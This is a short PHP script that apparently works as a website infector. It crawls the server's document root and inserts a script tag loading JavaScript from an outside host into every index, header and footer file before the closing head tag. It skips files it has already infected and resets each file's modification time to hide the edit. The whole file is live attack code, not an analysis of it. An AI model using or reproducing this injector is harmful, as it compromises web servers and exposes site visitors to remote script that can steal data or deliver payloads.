<?php
$s = "<script src=\"https://js-thongke.example/c.js\"></script>";
$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']), RecursiveIteratorIterator::LEAVES_ONLY, RecursiveIteratorIterator::CATCH_GET_CHILD);
foreach ($it as $f) {
    if (!preg_match('/^(index|header|footer)\.(php|html?|tpl)$/i', $f->getFilename())) { continue; }
    $c = file_get_contents($f);
    if (strpos($c, 'js-thongke') !== false) { continue; }
    $m = filemtime($f);
    file_put_contents($f, preg_replace('~</head>~i', $s . '</head>', $c, 1));
    touch($f, $m);
}
